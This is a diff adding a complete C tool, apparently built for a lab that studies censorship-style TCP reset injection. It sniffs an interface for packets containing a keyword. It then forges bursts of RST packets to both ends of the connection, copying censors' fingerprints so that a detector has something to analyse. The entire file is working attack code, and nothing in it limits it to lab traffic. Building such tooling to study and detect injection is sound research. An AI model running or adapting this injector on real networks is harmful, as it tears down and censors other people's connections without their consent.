@@ -1,0 +1,434 @@
+/*
+ * inject.c: an on-path TCP reset injector for the rstaudit lab.
+ *
+ *	inject -i IFACE -k KEYWORD [-p PORT] [-d DELAY_MS] [-t SECONDS]
+ *
+ * Sniffs the packets arriving on IFACE with an AF_PACKET socket (it never
+ * sits in the forwarding path: the routers keep forwarding everything).
+ * When a TCP payload contains KEYWORD (and goes to PORT, if given), it
+ * forges resets the way censors do:
+ *
+ *  - to the sender (the client), claiming to be the receiver: a burst of
+ *    three RST|ACK at seq = the trigger's ack, +1460, +4380, TTL/hop limit
+ *    64, IPv4 ID copied from the trigger, DF clear, window copied from the
+ *    trigger, no options;
+ *  - to the receiver (the server), claiming to be the client, DELAY_MS
+ *    later (default 300), so the server's genuine reply can still reach
+ *    the client after the forged RST: the race an analyser can see.
+ *
+ * Forged packets go out through raw IP sockets, so the kernel routes them.
+ * Prints "ready" on stdout once capturing; logs each injection on stderr.
+ * Exits on SIGINT/SIGTERM or after SECONDS (default 120).
+ */
+#define _GNU_SOURCE	/* memmem */
+#include <arpa/inet.h>
+#include <errno.h>
+#include <linux/if_packet.h>
+#include <net/ethernet.h>
+#include <net/if.h>
+#include <netinet/in.h>
+#include <poll.h>
+#include <sched.h>
+#include <signal.h>
+#include <stdint.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/socket.h>
+#include <time.h>
+#include <unistd.h>
+
+#define BURST		3
+#define MAX_PENDING	16
+#define TH_RST		0x04
+#define TH_ACK		0x10
+#define FORGED_TTL	64
+
+static const uint32_t burst_offset[BURST] = { 0, 1460, 4380 };
+
+/* One TCP segment's identity, as seen on the wire (host byte order). */
+struct seg {
+	int		 family;	/* AF_INET or AF_INET6 */
+	uint8_t		 src[16], dst[16];
+	uint16_t	 sport, dport;
+	uint32_t	 seq, ack;
+	uint16_t	 win;
+	uint16_t	 ipid;
+	size_t		 paylen;
+};
+
+struct pending {
+	struct seg	 rst;
+	double		 due;
+};
+
+static volatile sig_atomic_t quit;
+static struct pending pending[MAX_PENDING];
+static int npending;
+static int raw4 = -1, raw6 = -1;
+
+static void
+on_signal(int sig)
+{
+	(void)sig;
+	quit = 1;
+}
+
+static double
+now(void)
+{
+	struct timespec ts;
+
+	clock_gettime(CLOCK_MONOTONIC, &ts);
+	return ts.tv_sec + ts.tv_nsec / 1e9;
+}
+
+static uint16_t
+get16(const uint8_t *p)
+{
+	return (uint16_t)(p[0] << 8 | p[1]);
+}
+
+static uint32_t
+get32(const uint8_t *p)
+{
+	return (uint32_t)p[0] << 24 | (uint32_t)p[1] << 16 |
+	    (uint32_t)p[2] << 8 | p[3];
+}
+
+static void
+put16(uint8_t *p, uint16_t v)
+{
+	p[0] = v >> 8;
+	p[1] = v & 0xff;
+}
+
+static void
+put32(uint8_t *p, uint32_t v)
+{
+	put16(p, v >> 16);
+	put16(p + 2, v & 0xffff);
+}
+
+static uint32_t
+csum_add(uint32_t sum, const uint8_t *p, size_t len)
+{
+	for (; len > 1; p += 2, len -= 2)
+		sum += get16(p);
+	if (len)
+		sum += p[0] << 8;
+	return sum;
+}
+
+static uint16_t
+csum_fold(uint32_t sum)
+{
+	while (sum >> 16)
+		sum = (sum & 0xffff) + (sum >> 16);
+	return (uint16_t)~sum;
+}
+
+/*
+ * Parse an Ethernet frame into a TCP segment.  Returns the payload offset
+ * in frame, or -1 when it is not an unfragmented TCP segment.
+ */
+static long
+seg_parse(const uint8_t *frame, size_t len, struct seg *s)
+{
+	const uint8_t *ip = frame + ETH_HLEN, *tcp;
+	size_t iplen, thl;
+
+	if (len < ETH_HLEN)
+		return -1;
+	memset(s, 0, sizeof(*s));
+	len -= ETH_HLEN;
+	switch (get16(frame + 12)) {
+	case ETHERTYPE_IP:
+		if (len < 20 || ip[9] != IPPROTO_TCP ||
+		    (get16(ip + 6) & 0x3fff) != 0)
+			return -1;
+		s->family = AF_INET;
+		iplen = (ip[0] & 0x0f) * 4;
+		if (iplen < 20 || get16(ip + 2) < iplen || get16(ip + 2) > len)
+			return -1;
+		len = get16(ip + 2);
+		s->ipid = get16(ip + 4);
+		memcpy(s->src, ip + 12, 4);
+		memcpy(s->dst, ip + 16, 4);
+		break;
+	case ETHERTYPE_IPV6:
+		if (len < 40 || ip[6] != IPPROTO_TCP ||
+		    40 + (size_t)get16(ip + 4) > len)
+			return -1;
+		s->family = AF_INET6;
+		iplen = 40;
+		len = 40 + get16(ip + 4);
+		memcpy(s->src, ip + 8, 16);
+		memcpy(s->dst, ip + 24, 16);
+		break;
+	default:
+		return -1;
+	}
+	tcp = ip + iplen;
+	if (len < iplen + 20)
+		return -1;
+	thl = (tcp[12] >> 4) * 4;
+	if (thl < 20 || len < iplen + thl)
+		return -1;
+	s->sport = get16(tcp);
+	s->dport = get16(tcp + 2);
+	s->seq = get32(tcp + 4);
+	s->ack = get32(tcp + 8);
+	s->win = get16(tcp + 14);
+	s->paylen = len - iplen - thl;
+	return (long)(ETH_HLEN + iplen + thl);
+}
+
+/* Same segment (a retransmission): same flow and sequence number. */
+static int
+seg_same(const struct seg *a, const struct seg *b)
+{
+	return a->family == b->family && a->sport == b->sport &&
+	    a->dport == b->dport && a->seq == b->seq &&
+	    memcmp(a->src, b->src, 16) == 0 && memcmp(a->dst, b->dst, 16) == 0;
+}
+
+/* Build an RST|ACK for segment s (addresses as given) into buf; its length. */
+static size_t
+rst_build(const struct seg *s, uint8_t *buf)
+{
+	size_t alen = s->family == AF_INET ? 4 : 16;
+	size_t iplen = s->family == AF_INET ? 20 : 40;
+	uint8_t *tcp = buf + iplen;
+	uint32_t sum;
+
+	memset(buf, 0, iplen + 20);
+	if (s->family == AF_INET) {
+		buf[0] = 0x45;
+		put16(buf + 2, iplen + 20);
+		put16(buf + 4, s->ipid);	/* copied; DF clear */
+		buf[8] = FORGED_TTL;
+		buf[9] = IPPROTO_TCP;
+		memcpy(buf + 12, s->src, 4);
+		memcpy(buf + 16, s->dst, 4);
+		put16(buf + 10, csum_fold(csum_add(0, buf, 20)));
+	} else {
+		buf[0] = 0x60;
+		put16(buf + 4, 20);
+		buf[6] = IPPROTO_TCP;
+		buf[7] = FORGED_TTL;
+		memcpy(buf + 8, s->src, 16);
+		memcpy(buf + 24, s->dst, 16);
+	}
+	put16(tcp, s->sport);
+	put16(tcp + 2, s->dport);
+	put32(tcp + 4, s->seq);
+	put32(tcp + 8, s->ack);
+	tcp[12] = 5 << 4;
+	tcp[13] = TH_RST | TH_ACK;
+	put16(tcp + 14, s->win);
+	/* Pseudo-header: addresses, protocol, TCP length. */
+	sum = csum_add(0, s->src, alen);
+	sum = csum_add(sum, s->dst, alen);
+	sum += IPPROTO_TCP + 20;
+	put16(tcp + 16, csum_fold(csum_add(sum, tcp, 20)));
+	return iplen + 20;
+}
+
+static int
+rst_send(const struct seg *s)
+{
+	uint8_t buf[60];
+	size_t len = rst_build(s, buf);
+	struct sockaddr_in sin = { .sin_family = AF_INET };
+	struct sockaddr_in6 sin6 = { .sin6_family = AF_INET6 };
+	ssize_t n;
+
+	if (s->family == AF_INET) {
+		memcpy(&sin.sin_addr, s->dst, 4);
+		n = sendto(raw4, buf, len, 0, (struct sockaddr *)&sin,
+		    sizeof(sin));
+	} else {
+		memcpy(&sin6.sin6_addr, s->dst, 16);
+		n = sendto(raw6, buf, len, 0, (struct sockaddr *)&sin6,
+		    sizeof(sin6));
+	}
+	if (n != (ssize_t)len) {
+		fprintf(stderr, "inject: sendto: %s\n", strerror(errno));
+		return -1;
+	}
+	return 0;
+}
+
+static const char *
+seg_name(const struct seg *s, char *buf, size_t size)
+{
+	char a[INET6_ADDRSTRLEN], b[INET6_ADDRSTRLEN];
+
+	inet_ntop(s->family, s->src, a, sizeof(a));
+	inet_ntop(s->family, s->dst, b, sizeof(b));
+	snprintf(buf, size, "%s.%u > %s.%u", a, s->sport, b, s->dport);
+	return buf;
+}
+
+/* Forge the burst to the client now; queue the RST to the server. */
+static void
+inject(const struct seg *t, double delay)
+{
+	struct seg c = *t, sv = *t;
+	char name[128];
+	int i;
+
+	/* To the client, from the server. */
+	memcpy(c.src, t->dst, 16);
+	memcpy(c.dst, t->src, 16);
+	c.sport = t->dport;
+	c.dport = t->sport;
+	c.ack = t->seq + (uint32_t)t->paylen;
+	for (i = 0; i < BURST; i++) {
+		c.seq = t->ack + burst_offset[i];
+		rst_send(&c);
+	}
+	fprintf(stderr, "inject: trigger %s seq %u ack %u: %d RSTs to the "
+	    "client at seq %u +1460 +4380\n", seg_name(t, name, sizeof(name)),
+	    t->seq, t->ack, BURST, t->ack);
+
+	/* To the server, from the client, later. */
+	sv.seq = t->seq + (uint32_t)t->paylen;
+	sv.ack = t->ack;
+	if (npending == MAX_PENDING) {
+		fprintf(stderr, "inject: too many pending resets; dropped\n");
+		return;
+	}
+	pending[npending].rst = sv;
+	pending[npending].due = now() + delay;
+	npending++;
+}
+
+static void
+pending_run(void)
+{
+	char name[128];
+	int i;
+
+	for (i = 0; i < npending; i++) {
+		if (pending[i].due > now())
+			continue;
+		if (rst_send(&pending[i].rst) == 0)
+			fprintf(stderr, "inject: RST to the server %s seq %u\n",
+			    seg_name(&pending[i].rst, name, sizeof(name)),
+			    pending[i].rst.seq);
+		pending[i--] = pending[--npending];
+	}
+}
+
+static int
+pending_timeout_ms(void)
+{
+	double next = 1.0, t = now();
+	int i;
+
+	for (i = 0; i < npending; i++)
+		if (pending[i].due - t < next)
+			next = pending[i].due - t;
+	return next <= 0 ? 0 : (int)(next * 1000) + 1;
+}
+
+static int
+sniff_open(const char *ifname)
+{
+	struct sockaddr_ll sll = {
+		.sll_family = AF_PACKET,
+		.sll_protocol = htons(ETH_P_ALL),
+	};
+	int fd;
+
+	sll.sll_ifindex = (int)if_nametoindex(ifname);
+	if (sll.sll_ifindex == 0) {
+		fprintf(stderr, "inject: %s: no such interface\n", ifname);
+		return -1;
+	}
+	fd = socket(AF_PACKET, SOCK_RAW, htons(ETH_P_ALL));
+	if (fd == -1 || bind(fd, (struct sockaddr *)&sll, sizeof(sll)) == -1) {
+		fprintf(stderr, "inject: packet socket on %s: %s\n", ifname,
+		    strerror(errno));
+		return -1;
+	}
+	return fd;
+}
+
+static void
+usage(void)
+{
+	fprintf(stderr, "usage: inject -i IFACE -k KEYWORD [-p PORT] "
+	    "[-d DELAY_MS] [-t SECONDS]\n");
+	exit(2);
+}
+
+int
+main(int argc, char *argv[])
+{
+	const char *ifname = NULL, *keyword = NULL;
+	struct sched_param sp = { .sched_priority = 10 };
+	struct seg s, last = { 0 };
+	uint8_t frame[2048];
+	long port = 0, off;
+	double delay = 0.3, deadline, seconds = 120;
+	int fd, ch;
+
+	while ((ch = getopt(argc, argv, "i:k:p:d:t:")) != -1) {
+		switch (ch) {
+		case 'i': ifname = optarg; break;
+		case 'k': keyword = optarg; break;
+		case 'p': port = strtol(optarg, NULL, 10); break;
+		case 'd': delay = strtol(optarg, NULL, 10) / 1000.0; break;
+		case 't': seconds = strtol(optarg, NULL, 10); break;
+		default: usage();
+		}
+	}
+	if (ifname == NULL || keyword == NULL || *keyword == '\0')
+		usage();
+	deadline = now() + seconds;
+	signal(SIGINT, on_signal);
+	signal(SIGTERM, on_signal);
+	/* Answer faster than the server's reply, even on a loaded host. */
+	sched_setscheduler(0, SCHED_FIFO, &sp);
+
+	raw4 = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
+	raw6 = socket(AF_INET6, SOCK_RAW, IPPROTO_RAW);
+	if (raw4 == -1 || raw6 == -1) {
+		fprintf(stderr, "inject: raw socket: %s\n", strerror(errno));
+		return 1;
+	}
+	if ((fd = sniff_open(ifname)) == -1)
+		return 1;
+	printf("ready on %s, keyword \"%s\"\n", ifname, keyword);
+	fflush(stdout);
+
+	while (!quit && now() < deadline) {
+		struct pollfd pfd = { .fd = fd, .events = POLLIN };
+		struct sockaddr_ll from;
+		socklen_t fromlen = sizeof(from);
+		ssize_t n;
+
+		pending_run();
+		if (poll(&pfd, 1, pending_timeout_ms()) <= 0)
+			continue;
+		n = recvfrom(fd, frame, sizeof(frame), 0,
+		    (struct sockaddr *)&from, &fromlen);
+		if (n <= 0 || from.sll_pkttype == PACKET_OUTGOING)
+			continue;
+		off = seg_parse(frame, (size_t)n, &s);
+		if (off < 0 || s.paylen == 0 || (port && s.dport != port))
+			continue;
+		if (memmem(frame + off, s.paylen, keyword, strlen(keyword)) ==
+		    NULL)
+			continue;
+		/* A retransmitted trigger gets no second burst. */
+		if (seg_same(&s, &last))
+			continue;
+		last = s;
+		inject(&s, delay);
+	}
+	return 0;
+}
